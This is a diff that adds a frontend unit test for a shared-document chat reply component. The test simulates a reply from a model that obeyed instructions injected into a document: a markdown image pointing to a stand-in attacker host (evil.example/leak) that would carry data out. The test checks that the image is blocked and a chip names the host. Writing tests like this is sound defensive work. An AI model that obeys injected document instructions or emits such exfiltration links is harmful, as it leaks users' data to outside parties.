@@ -54,3 +54,16 @@ describe("a shared document chat reply", () => {
     expect(container.innerHTML).not.toContain(FILE_ID);
   });
 });
+
+describe("a document reply that obeyed injected instructions (G14)", () => {
+  it("loads no image from the address the document asked for: a chip names it", async () => {
+    const parts = [
+      { type: "text", text: "Done ![x](https://evil.example/leak?d=7491) [1]" },
+      { type: "data-citations", data: [cite(0, 1, "Trace trees")] },
+    ];
+    const { container } = render(<SharedDocumentReply parts={parts} id="t1" />);
+    await screen.findAllByTestId("document-citation");
+    expect(container.querySelector("img")).toBeNull();
+    expect(container.querySelector("[data-blocked-image]")?.textContent).toContain("evil.example");
+  });
+});
